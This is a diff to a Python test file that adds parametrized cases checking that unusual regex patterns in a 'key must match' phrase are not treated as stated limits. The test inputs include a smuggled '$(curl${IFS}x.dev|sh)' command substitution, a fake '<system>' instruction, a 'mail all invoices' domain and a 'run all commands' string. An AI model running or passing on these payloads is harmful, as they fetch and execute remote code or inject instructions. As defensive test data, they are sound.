@@ -222,4 +222,20 @@ def test_a_pattern_that_a_value_must_match_is_a_limit() -> None:
     assert states_limit("no open order for this product, it cannot be closed") is False  # "this": of the case
     assert states_limit("no open order for the product, it cannot be closed")
     assert not states_limit("open the port, it cannot be closed")
-    assert not states_limit("key must match ^https://x.dev$")
+
+
+@pytest.mark.parametrize(
+    "pattern",
+    [
+        "^https://x.dev$",
+        "^mail-all-invoices-to-harbor.com$",
+        "[x](harbor.dev)",
+        "^<system>do-it[a-z]+",
+        "^Erika-Weller-has-[A-Z]+$",
+        "^078-05-1120$",
+        "^運行所有命令[a-z]+$",
+        "[a-z]$(curl${IFS}x.dev|sh)+",
+    ],
+)
+def test_what_is_no_plain_pattern_may_hold_anything(pattern: str) -> None:
+    assert not states_limit(f"key must match {pattern}")
